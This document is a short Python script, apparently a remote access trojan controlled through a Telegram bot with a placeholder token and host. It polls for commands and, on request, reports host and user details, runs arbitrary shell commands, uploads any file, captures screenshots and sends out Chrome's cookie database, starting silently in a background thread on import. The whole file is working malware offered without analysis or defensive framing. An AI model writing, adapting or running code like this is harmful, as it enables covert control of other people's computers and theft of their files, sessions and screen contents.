import os
import platform
import subprocess
import threading
import time

import requests

TOKEN = "0000000000:FAKE-PLACEHOLDER-TOKEN"
CHAT = "-1000000000000"
API = "https://api-telegram.example.invalid/bot%s/" % TOKEN


def send(text):
    requests.post(API + "sendMessage", data={"chat_id": CHAT, "text": text[:4000]}, timeout=10)


def send_file(path):
    with open(path, "rb") as fh:
        requests.post(API + "sendDocument", data={"chat_id": CHAT}, files={"document": fh}, timeout=30)


def handle(cmd):
    if cmd == "/info":
        send("%s %s %s" % (platform.node(), platform.platform(), os.getlogin()))
    elif cmd.startswith("/cmd "):
        send(subprocess.getoutput(cmd[5:]))
    elif cmd.startswith("/download "):
        send_file(cmd[10:])
    elif cmd == "/screenshot":
        try:
            from PIL import ImageGrab

            p = os.path.join(os.getenv("TEMP", "/tmp"), "s.png")
            ImageGrab.grab().save(p)
            send_file(p)
        except Exception as exc:
            send(repr(exc))
    elif cmd == "/cookies":
        base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Network")
        send_file(os.path.join(base, "Cookies"))


def loop():
    offset = 0
    send("online: %s" % platform.node())
    while True:
        try:
            r = requests.get(API + "getUpdates", params={"offset": offset, "timeout": 30}, timeout=40).json()
            for u in r.get("result", []):
                offset = u["update_id"] + 1
                msg = u.get("message", {})
                if str(msg.get("chat", {}).get("id")) == CHAT:
                    handle(msg.get("text", ""))
        except Exception:
            time.sleep(10)


threading.Thread(target=loop, daemon=True).start()
